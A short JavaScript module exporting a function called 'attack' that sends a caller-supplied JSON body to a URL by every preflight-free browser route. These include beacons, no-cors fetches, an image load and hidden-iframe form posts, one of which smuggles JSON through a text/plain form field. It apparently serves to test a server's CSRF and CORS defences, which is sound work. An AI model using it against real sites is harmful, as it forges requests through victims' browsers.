// Runs in a page of the browser, as text: it names nothing outside itself.
/* global document, navigator, Blob, Image */

/**
 * Everything by which a page sends a body, or asks, without leave of the server. Resolves when all is sent.
 * @param {string} url
 * @param {string} body JSON
 * @returns {Promise<string[]>} the requests whose answers the page could read
 */
export function attack(url, body) {
  const readable = [];
  const read = async (name, asked) => {
    const text = await asked
      .then((response) => (response.type === 'opaque' ? '' : response.text()))
      .catch(() => '');
    if (text !== '') readable.push(name);
  };
  const submit = (enctype) =>
    new Promise((resolve) => {
      const frame = document.createElement('iframe');
      frame.name = `f-${Math.random()}`;
      document.body.append(frame);
      const form = document.createElement('form');
      Object.assign(form, { action: url, method: 'POST', enctype, target: frame.name });
      // `name=value` is the JSON again, where the name ends within a text that the value closes.
      const field = document.createElement('input');
      field.name = `${body.slice(0, -1)},"pad":"`;
      field.value = '"}';
      form.append(field);
      document.body.append(form);
      frame.addEventListener('load', () => resolve());
      form.submit();
    });
  const image = new Promise((resolve) => {
    const shown = new Image();
    shown.onload = shown.onerror = () => resolve();
    shown.src = `${url}?image`;
    document.body.append(shown);
  });
  const post = (more) => fetch(url, { method: 'POST', body, ...more });
  const json = { 'content-type': 'application/json' };
  navigator.sendBeacon(url, body);
  navigator.sendBeacon(url, new Blob([body], { type: 'text/plain' }));
  return Promise.all([
    read('text', post({})),
    read('opaque', post({ mode: 'no-cors' })),
    read('untyped', post({ mode: 'no-cors', body: new Blob([body]) })),
    read('json', post({ headers: json })),
    read('get', fetch(url)),
    submit('text/plain'),
    submit('application/x-www-form-urlencoded'),
    submit('multipart/form-data'),
    image,
  ]).then(() => readable);
}
